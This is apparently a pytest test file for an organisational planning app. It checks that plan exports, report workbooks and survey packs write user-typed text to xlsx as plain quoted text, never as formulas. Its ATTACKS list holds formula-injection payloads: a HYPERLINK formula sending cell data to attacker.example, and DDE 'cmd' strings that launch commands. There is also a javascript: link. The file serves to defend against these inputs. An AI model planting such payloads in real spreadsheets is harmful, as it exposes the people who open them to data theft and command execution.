"""Text people typed comes out of every workbook as text, never as a formula: the plan export,
the report workbook and the survey pack's survey.xlsx, read back from their XML."""

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from lxml import etree
from openpyxl import Workbook

from digiorg.assessments.models import CriterionAssessment
from digiorg.core.xlsx import sheet_cell
from digiorg.cycles.models import Cycle
from digiorg.cycles.services import cycle_open
from digiorg.evidence.models import Evidence
from digiorg.plans.models import Action, ProgressReport
from digiorg.plans.services import action_create
from digiorg.reports.data import report_data
from digiorg.reports.pack import write_pack
from digiorg.reports.xlsx import render_xlsx
from digiorg.sample.demo import demo_prepare

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
ATTACKS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tเริ่มด้วยแท็บ",
    "\rเริ่มด้วยขึ้นบรรทัด",
]


def sheet_cells(content: bytes) -> list[dict]:
    """Every cell of every sheet: its type, whether it holds a formula, its text and whether
    its style keeps text as text (quotePrefix)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        styles = etree.fromstring(archive.read("xl/styles.xml"))
        xfs = styles.findall("m:cellXfs/m:xf", NS)
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            table = etree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(si.itertext()) for si in table.findall("m:si", NS)]
        cells = []
        for name in archive.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for c in etree.fromstring(archive.read(name)).iterfind(".//m:c", NS):
                kind = c.get("t", "n")
                if kind == "inlineStr":
                    inline = c.find("m:is", NS)
                    text = "" if inline is None else "".join(inline.itertext())
                elif kind == "s":
                    text = shared[int(c.findtext("m:v", namespaces=NS))]
                else:
                    text = c.findtext("m:v", namespaces=NS)
                xf = xfs[int(c.get("s", 0))]
                cells.append(
                    {
                        "ref": c.get("r"),
                        "type": kind,
                        "formula": c.find("m:f", NS) is not None,
                        "text": text,
                        "quote": xf.get("quotePrefix") in ("1", "true"),
                    }
                )
    return cells


def assert_attacks_are_text(content: bytes, attacks: list[str]) -> None:
    cells = sheet_cells(content)
    assert not [c for c in cells if c["formula"]], "no cell may hold a formula"
    for attack in attacks:
        found = [c for c in cells if c["text"] == attack]
        assert found, f"{attack!r} is missing"
        for cell in found:
            assert cell["type"] in ("inlineStr", "s"), cell
            assert cell["quote"], cell


def test_sheet_cell_keeps_numbers_and_dates_and_makes_every_string_text():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(
        [
            sheet_cell(sheet, "=1+1"),
            sheet_cell(sheet, "#N/A"),
            sheet_cell(sheet, "ข้อความธรรมดา"),
            sheet_cell(sheet, 42),
            sheet_cell(sheet, Decimal("-12.50")),
            sheet_cell(sheet, date(2025, 1, 2)),
            sheet_cell(sheet, "เอกสาร", link="javascript:alert(1)"),
            sheet_cell(sheet, "เอกสาร", link="https://example.go.th/a"),
        ]
    )
    out = io.BytesIO()
    workbook.save(out)
    cells = {c["ref"]: c for c in sheet_cells(out.getvalue())}
    assert (
        cells["A1"]["type"] == "inlineStr" and cells["A1"]["quote"] and not cells["A1"]["formula"]
    )
    assert cells["B1"]["type"] == "inlineStr" and cells["B1"]["text"] == "#N/A"
    assert cells["C1"]["type"] == "inlineStr" and not cells["C1"]["quote"]
    assert (cells["D1"]["type"], cells["D1"]["text"]) == ("n", "42")
    assert (cells["E1"]["type"], cells["E1"]["text"]) == ("n", "-12.5")
    assert cells["F1"]["type"] == "n"  # a real date: a number with a date format
    with zipfile.ZipFile(out) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        rels = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert sheet_xml.count("<hyperlink ") == 1 and "javascript" not in rels
    assert "https://example.go.th/a" in rels


def test_plan_export_writes_typed_text_as_text(world, seed_framework):
    cycle = cycle_open(organization=world.units["HSS"], fiscal_year=2568, framework=seed_framework)
    action_create(
        actor=world.people["admin"], cycle=cycle, unit=world.units["R1"], title=ATTACKS[0],
        description=ATTACKS[1], kpi=ATTACKS[2], kpi_unit=ATTACKS[4],
        start_date=date(2024, 11, 1), end_date=date(2025, 3, 31), budget=Decimal("5"),
    )  # fmt: skip
    for number, attack in enumerate(ATTACKS[3:], start=1):
        action_create(
            actor=world.people["admin"], cycle=cycle, unit=world.units["R1"],
            title=attack, start_date=date(2024, 11, number), end_date=date(2025, 3, 31),
        )  # fmt: skip
    response = world.client("secretariat").get(f"/plans/export.xlsx?cycle={cycle.pk}")
    assert response.status_code == 200
    assert_attacks_are_text(response.content, ATTACKS)
    budget = next(c for c in sheet_cells(response.content) if c["ref"] == "J2")
    assert (budget["type"], budget["text"]) == ("n", "5")  # numbers stay numbers


@pytest.fixture
def attacked(db):
    """The demo, with formulas typed into an action, a progress report, an answer and an
    evidence title (the survey pack lists evidence titles and answer notes)."""
    demo_prepare(say=lambda _: None)
    cycle = Cycle.objects.filter(organization__code="HSS").latest("fiscal_year")
    # an action the report lists (a cancelled one is left out)
    action = Action.objects.filter(cycle=cycle).exclude(status="cancelled").order_by("pk").first()
    Action.objects.filter(pk=action.pk).update(title=ATTACKS[0], kpi=ATTACKS[3])
    ProgressReport.objects.filter(action__cycle=cycle).update(narrative=ATTACKS[1])
    CriterionAssessment.objects.filter(cycle=cycle).update(note=ATTACKS[2])
    Evidence.objects.filter(organization=cycle.organization).update(title=ATTACKS[4])
    return cycle


def test_report_workbook_and_survey_pack_write_typed_text_as_text(attacked, tmp_path):
    data = report_data(attacked, today=date(2025, 6, 15))
    assert_attacks_are_text(render_xlsx(data), ATTACKS[:5])
    target = tmp_path / "pack.zip"
    with open(target, "wb") as out:
        write_pack(data, out)
    with zipfile.ZipFile(target) as pack:
        survey = pack.read("survey.xlsx")
    cells = sheet_cells(survey)
    assert not [c for c in cells if c["formula"]]
    notes = [c for c in cells if c["text"] == ATTACKS[2]]
    titles = [c for c in cells if (c["text"] or "").startswith(ATTACKS[4])]
    assert notes and titles
    assert all(c["type"] == "inlineStr" and c["quote"] for c in notes + titles)
